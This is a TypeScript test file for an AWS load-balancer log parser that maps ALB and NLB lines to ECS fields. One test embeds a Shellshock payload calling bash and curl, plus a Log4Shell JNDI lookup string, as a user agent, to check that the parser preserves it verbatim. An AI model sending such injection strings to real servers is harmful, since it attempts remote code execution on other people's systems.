import assert from "node:assert/strict";
import { alb } from "./alb";
import { assertHolds } from "./fuzzing";
import { documentsOf, enrichmentOf, Json } from "./testing";

const AGENT = '"Mozilla/5.0 \\"quoted\\" \\\\ back"';
const FIELDS = [
    "https 2026-11-24T13:31:01.186641Z app/shop/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 34 366",
    `"GET https://Shop.example:443/a/b.php?q=1 HTTP/1.1" ${AGENT} ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
    "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067",
    '"Root=1-58337281-1d84f3d73c47ec4e58577259" "sni.example" "arn:aws:acm:eu-west-1:123456789012:certificate/1" 1',
    '2026-11-24T13:31:01.100000Z "waf,forward" "-" "-" "10.0.0.1:80" "200" "-" "-"',
];
/** As written since 2024 and 2025: connection trace, rewritten host and path, the node's address. */
const NEWER = 'TID_1234abcd5678ef90 "-" "-" "-" 192.0.2.7';
const LINE = FIELDS.join(" ");
const NLB =
    "tls 2.0 2026-11-24T13:31:01 net/edge/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.9:51341 192.0.2.2:443 5 2 98 246 - " +
    "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - sni.example - - - 2026-11-24T13:31:00";

async function one(line: string): Promise<Json> {
    const { documents, quarantined } = await documentsOf(alb(), `${line}\n`);
    assert.deepEqual(quarantined, []);
    return documents[0];
}

describe("alb", () => {
    it("makes the ECS document of a line", async () => {
        const { event, ecs, source, http, url, user_agent: agent, tls, related, aws } = await one(LINE);
        assert.equal(ecs.version, "8.11.0");
        assert.deepEqual([event.dataset, event.kind, event.category], ["aws.elb_logs", "event", ["web"]]);
        assert.deepEqual([event.outcome, event.end], ["success", "2026-11-24T13:31:01.186Z"]);
        assert.deepEqual([source.ip, source.port], ["203.0.113.9", 2817]);
        assert.equal(http.request.method, "GET");
        assert.equal(http.response.status_code, 200);
        assert.deepEqual(
            [url.domain, url.port, url.path, url.query, url.scheme],
            ["Shop.example", 443, "/a/b.php", "q=1", "https"],
        );
        assert.equal(agent.original, 'Mozilla/5.0 "quoted" \\ back', "the log's own escapes are undone");
        assert.deepEqual([tls.cipher, tls.version], ["ECDHE-RSA-AES128-GCM-SHA256", "1.2"]);
        assert.deepEqual(related.ip, ["203.0.113.9", "10.0.0.1"]);
        assert.deepEqual(related.hosts, ["shop.example", "sni.example"]);
        assert.equal(aws.elb.name, "app/shop/50dc6c495c0c9188");
        assert.equal(aws.elb.request_processing_time.sec, 0.086);
        assert.deepEqual(aws.elb.action_executed, ["waf", "forward"]);
    });

    it("takes lines that are older or newer, by position", async () => {
        const { aws, source } = await one(`${LINE} ${NEWER} "of a later year"`);
        assert.equal(aws.elb.conn_trace_id, "TID_1234abcd5678ef90");
        assert.equal(aws.elb.ip_address, "192.0.2.7");
        assert.equal(source.ip, "203.0.113.9");
    });

    it("stands requests that are none, targets that never were, and IPv6 clients", async () => {
        const line = LINE.replace(
            "203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037",
            "2001:db8::9:2817 - -1 -1 -1",
        )
            .replace(/"GET [^"]*"/, '"- - -"')
            .replace(AGENT, '"-"')
            .replace("200 200 34", "400 - 34");
        const { source, url, user_agent: agent, event, http } = await one(line);
        assert.deepEqual([source.ip, source.port], ["2001:db8::9", 2817]);
        assert.deepEqual([url, agent, event.outcome], [undefined, undefined, "failure"]);
        assert.equal(http.response.status_code, 400);
        for (const type of ["http", "h2", "grpcs", "ws", "wss"]) {
            assert.equal((await one(LINE.replace("https", type))).aws.elb.type, type);
        }
    });

    it("lets attacks through as they came", async () => {
        const attack = '() { :;}; /bin/bash -c \\"curl \\x22evil\\x22\\" ${jndi:ldap://x} é';
        const { user_agent: agent } = await one(LINE.replace(AGENT, `"${attack}"`));
        assert.equal(agent.original, '() { :;}; /bin/bash -c "curl \\x22evil\\x22" ${jndi:ldap://x} é');
    });

    const SHOWN = [
        { type: "ipv4", value: "203.0.113.9", field: "source.ip" },
        { type: "domain", value: "shop.example", field: "url.domain" },
        { type: "url", value: "https://shop.example/a/b.php?q=1", field: "url.original" },
    ] as const;
    for (const { type, value } of SHOWN) {
        it(`matches the ${type} that it shows`, async () => {
            const { documents } = await documentsOf(alb(), LINE, {
                enrichment: enrichmentOf({ type, value }),
            });
            assert.equal(documents[0].threat.matched, true);
            assert.equal(documents[0].threat.enrichments[0].indicator.name, value);
        });
    }

    it("quarantines what is no such line", async () => {
        const bad = [
            "short",
            LINE.replace("2026-11-24T13:31:01.186641Z", "yesterday"),
            LINE.replace("203.0.113.9", "client"),
        ];
        const { quarantined, report } = await documentsOf(alb(), [LINE, ...bad, LINE].join("\n"));
        assert.equal(report.documents, 2);
        assert.deepEqual(
            quarantined.map(({ record }) => record),
            [2, 3, 4],
        );
    });

    it("holds whatever is broken or cut", async function () {
        this.timeout(60_000);
        await assertHolds(alb(), [LINE, `${LINE} ${NEWER}`, NLB]);
    });
});

describe("nlb", () => {
    it("makes the ECS document of a TLS line", async () => {
        const { source, tls, aws, related } = await one(NLB);
        assert.deepEqual([source.ip, source.port], ["203.0.113.9", 51341]);
        assert.deepEqual([tls.cipher, tls.version], ["ECDHE-RSA-AES128-SHA", "1.2"]);
        assert.equal(aws.elb.name, "net/edge/c6e77e28c25b2234");
        assert.ok(related.hosts.includes("sni.example"));
    });
});
